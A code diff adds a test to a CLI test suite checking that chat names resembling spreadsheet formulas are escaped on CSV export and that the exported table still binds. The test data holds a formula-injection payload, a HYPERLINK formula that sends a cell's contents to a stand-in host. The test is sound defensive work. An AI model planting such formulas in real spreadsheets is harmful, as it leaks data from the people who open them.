@@ -143,4 +143,22 @@ describe('npm run cli -- chats list --csv / chats bind FILE', () => {
     expect(list.stdout).toContain('oc_west\t在群里\t西村, 工作群\t已绑定 V2 测试县/甲镇/西村\n');
     expect(unit?.status).toBe('active');
   });
+
+  it('writes a chat name Excel would run as a formula as text, and the table still binds', async () => {
+    // Any group owner names the chat; the IT person opens the table in Excel.
+    const name = '=HYPERLINK("http://example.invalid/?"&A1,"点我")';
+    await recordChatJoined(tdb.db, { chatId: 'oc_formula', name, at: clock.now() });
+    await recordChatJoined(tdb.db, { chatId: 'oc_minus', name: '-2+3', at: clock.now() });
+    const exported = (await cli('chats', 'list', '--csv')).stdout;
+    const lines = exported.split('\n');
+    expect(lines).toContain('oc_formula,"\'=HYPERLINK(""http://example.invalid/?""&A1,""点我"")",');
+    expect(lines).toContain("oc_minus,'-2+3,");
+    const res = await cli(
+      'chats',
+      'bind',
+      table('公式.csv', exported.replace("oc_minus,'-2+3,", "oc_minus,'-2+3,V3")),
+    );
+    expect(res.stderr).toBe('');
+    expect((await getLiveBinding(tdb.db, 'oc_minus'))?.status).toBe('active');
+  });
 });
